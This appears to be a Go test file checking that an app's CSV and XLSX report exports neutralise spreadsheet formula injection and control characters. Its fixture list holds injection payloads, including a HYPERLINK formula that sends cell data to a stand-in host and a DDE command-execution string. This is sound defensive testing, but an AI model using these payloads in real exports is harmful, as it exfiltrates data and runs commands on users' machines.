package export

import (
	"archive/zip"
	"bytes"
	"context"
	"encoding/csv"
	"io"
	"strings"
	"testing"
	"time"

	"github.com/lapkin-id/lapkin/store"
)

// hostile are report texts as an attacker or a careless paste would leave them in the database
// (stored before texts were cleaned on arrival, or by a future path that forgets to): formulas
// behind every character a spreadsheet starts one with, behind white space and behind a
// bidirectional override, and control characters.
var hostile = []string{
	`=HYPERLINK("http://evil.example/?"&A1,"klik")`,
	`+cmd|' /C calc'!A0`,
	`-2+3`,
	`@SUM(A1:A9)`,
	"\t=1+1",
	"\r=1+1",
	" =1+1",
	"\u202e=1+1",
	"\x00=1+1",
	"Rapat\x07 koordinasi\x1b[31m\nbaris dua",
}

func hostileStore(t *testing.T) *store.Store {
	t.Helper()
	st := fixture(t)
	ctx := context.Background()
	err := st.Update(ctx, func(tx *store.Tx) error {
		if err := tx.UpsertEmployee(ctx, store.Employee{NIP: nipBudi, Name: "=Budi\u202e Santoso\x1b", OPDCode: "DINKES"}, time.Date(2026, 10, 1, 0, 0, 0, 0, time.UTC)); err != nil {
			return err
		}
		for i, text := range hostile {
			_, err := tx.AddReport(ctx, store.Report{NIP: nipBudi, OPDCode: "DINKES", LocalDate: "2026-11-20", Text: text, Quantity: ptr(1.0),
				CreatedAt: time.Date(2026, 11, 20, 2, i, 0, 0, time.UTC)})
			if err != nil {
				return err
			}
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	return st
}

// No CSV cell a spreadsheet would read as a formula, and no control character or override in any.
func TestCSVDefusesFormulasAndControls(t *testing.T) {
	st := hostileStore(t)
	var buf bytes.Buffer
	if _, err := CSV(context.Background(), st, Options{Location: wib, OPD: "DINKES", From: time.Date(2026, 11, 20, 0, 0, 0, 0, time.UTC)}, &buf); err != nil {
		t.Fatal(err)
	}
	cr := csv.NewReader(bytes.NewReader(buf.Bytes()[3:]))
	cr.Comma = ';'
	recs, err := cr.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(recs) != len(hostile)+1 {
		t.Fatalf("%d rows, want header + %d", len(recs), len(hostile))
	}
	for _, rec := range recs[1:] {
		for i, c := range rec {
			if c != "" && strings.ContainsRune("=+-@\t\r ", rune(c[0])) {
				t.Errorf("column %d starts a formula: %q", i, c)
			}
			if strings.ContainsFunc(c, func(r rune) bool { return r < 0x20 || r == 0x7f || r >= 0x202a && r <= 0x202e }) {
				t.Errorf("column %d carries a control character or override: %q", i, c)
			}
		}
		if rec[2] != "'=Budi Santoso" {
			t.Errorf("name cell %q, want %q", rec[2], "'=Budi Santoso")
		}
	}
	if got, want := recs[len(recs)-1][4], "Rapat koordinasi[31m baris dua"; got != want {
		t.Errorf("last text %q, want %q", got, want)
	}
	if got := recs[1][4]; got != `'=HYPERLINK("http://evil.example/?"&A1,"klik")` {
		t.Errorf("first text %q: the words must stay, behind an apostrophe", got)
	}
}

// The workbook writes texts as inline strings: a text starting with '=' is shown as written and
// is never a formula (excelize makes a formula only of Cell.Formula, an <f> element), and no
// cell of the sheet has a formula at all.
func TestXLSXTextIsNeverAFormula(t *testing.T) {
	st := hostileStore(t)
	f, raw, _ := exportXLSX(t, st, Options{OPD: "DINKES", From: time.Date(2026, 11, 20, 0, 0, 0, 0, time.UTC)})
	if got := cell(t, f, "Laporan", "E2", false); got != hostile[0] {
		t.Fatalf("E2 shows %q, want the text as written %q", got, hostile[0])
	}
	if !isText(t, f, "Laporan", "E2") {
		t.Fatal("E2 is not a text cell")
	}
	if formula, err := f.GetCellFormula("Laporan", "E2"); err != nil || formula != "" {
		t.Fatalf("E2 has the formula %q (%v)", formula, err)
	}
	zr, err := zip.NewReader(bytes.NewReader(raw), int64(len(raw)))
	if err != nil {
		t.Fatal(err)
	}
	for _, zf := range zr.File {
		if !strings.HasPrefix(zf.Name, "xl/worksheets/") {
			continue
		}
		rc, err := zf.Open()
		if err != nil {
			t.Fatal(err)
		}
		b, _ := io.ReadAll(rc)
		rc.Close()
		if bytes.Contains(b, []byte("<f>")) || bytes.Contains(b, []byte("<f ")) {
			t.Errorf("%s holds a formula", zf.Name)
		}
	}
}
